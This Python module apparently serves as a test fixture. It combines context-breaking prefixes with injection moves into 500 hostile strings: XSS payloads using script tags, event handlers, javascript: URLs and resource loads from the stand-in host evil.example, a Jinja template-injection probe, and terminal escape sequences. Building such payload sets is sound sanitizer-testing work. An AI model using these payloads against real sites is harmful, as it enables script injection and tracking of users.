"""Five hundred hostile texts: each tries to run, to ask for something, or to break out of where it stands.

Every one that could run would call `alert` or set the title to "ran"; every one that could ask would ask for
http://evil.example. `PAYLOADS` is always the same.
"""

from __future__ import annotations

from itertools import product

RUN = "alert(1);document.title='ran'"
ASK = "http://evil.example/x"
ENDS = ("", '"', "'", "`", ">", "-->", "]]>", "</p>", "</title>", "</textarea>", "</style>", "</script>", "</svg>",
        "</option></select>", "</h4>", '"></a>', "' ", "\x00", "\u202e", "&#34;&gt;")  # fmt: skip
MOVES = (
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT >",
    f"<script src={ASK}></script>",
    f'<img src=x onerror="{RUN}">',
    f"<img/src={ASK}>",
    f'<svg onload="{RUN}"><use href="{ASK}#x"/></svg>',
    f"<svg><script>{RUN}</script></svg>",
    f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s>',
    f'<a href="javascript:{RUN}">x</a>',
    f'<a href="java\tscript:{RUN}">x</a>',
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f'<iframe src="{ASK}"></iframe>',
    f"<object data={ASK}></object><embed src={ASK}>",
    f"<link rel=stylesheet href={ASK}><link rel=prefetch href={ASK}>",
    f"<style>@import '{ASK}';body{{background:url({ASK})}}</style>",
    f'<p style="background:url({ASK})">x</p>',
    f'<meta http-equiv=refresh content="0;url={ASK}">',
    f"<base href={ASK}>",
    f'<form action="{ASK}"><button formaction="javascript:{RUN}" autofocus onfocus="{RUN}">x</button></form>',
    f'<input autofocus onfocus="{RUN}"><details open ontoggle="{RUN}">',
    f'<video poster={ASK}><source onerror="{RUN}"></video><audio src={ASK} onerror="{RUN}">',
    "{{ 7 * 7 }}{{ config }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    f"&lt;script&gt;{RUN}&lt;/script&gt;&#x3c;script&#x3e;{RUN}&#60;/script&#62;",
    f"\x1b[31m\x1b]8;;{ASK}\x07x\x1b]8;;\x07[link={ASK}]x[/link]\x9b2J\u2066\u2069",
    f"\ufeff<scr\x00ipt>{RUN}</scr\x00ipt>\uff1cscript\uff1e{RUN}",
)
PAYLOADS = tuple(f"{end}{move}" for end, move in product(ENDS, MOVES))
assert len(set(PAYLOADS)) == 500
